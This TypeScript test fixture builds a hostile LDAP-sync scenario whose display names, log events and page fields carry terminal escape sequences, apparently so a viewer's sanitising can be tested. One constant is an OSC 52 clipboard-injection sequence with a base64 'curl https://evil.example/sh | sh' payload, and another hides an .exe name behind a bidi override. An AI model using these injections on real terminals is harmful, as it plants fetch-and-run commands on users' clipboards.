import { dn, withMessages } from '../directory.js';
import type { PageMessage } from '../messages.js';
import { healthyRun, staticScenario, type Scenario } from './scenario.js';

// Directory data is attacker-controlled: a display name can carry terminal escape sequences.
export const OSC_TITLE = '\x1b]0;pwned\x07';
export const OSC_52_CLIPBOARD = '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zaCB8IHNo\x07';
export const CLEAR_SCREEN = '\x1b[2J';
export const C1_CSI = '\x9b31m';
export const BIDI_OVERRIDE = '\u202e';

const HOSTILE_MESSAGES: PageMessage[] = [
  { kind: 'uniqueness', dn: dn(`Eve${OSC_TITLE}`, 'Contacts') },
  { kind: 'group-missing', dn: dn(`Helpdesk${OSC_52_CLIPBOARD}`, 'Groups') },
  { kind: 'raw', level: 'info', event: `${CLEAR_SCREEN}Synced 9999 objects.` },
  { kind: 'raw', level: 'warning', event: `${C1_CSI}red alert${BIDI_OVERRIDE}txt.exe`, logger: `ldap_sync${CLEAR_SCREEN}` },
  { kind: 'raw', level: 'info', event: 'Synced 50 objects.\rSynced 0 objects.\nsecond line' },
  { kind: 'uniqueness', dn: dn('山田太郎（営業部）', 'ユーザー') },
  { kind: 'group-missing', dn: dn('👩‍💻 Engineering 🎉', 'Groups') },
  { kind: 'synced', count: 43 },
];

/** A completed run whose messages, loggers, page types and descriptions carry escape sequences and wide text. */
export function hostile(epoch: Date): Scenario {
  let run = healthyRun('hostile');
  run = withMessages(run, 'users', 4, HOSTILE_MESSAGES);
  run = {
    ...run,
    pages: run.pages.map((p, i) => {
      if (i === 7) return { ...p, type: `users${OSC_TITLE}` };
      if (i === 8) return { ...p, description: `Synchronization of an LDAP Source${CLEAR_SCREEN}${OSC_TITLE}` };
      return p;
    }),
  };
  return staticScenario('hostile', epoch, run, 1);
}
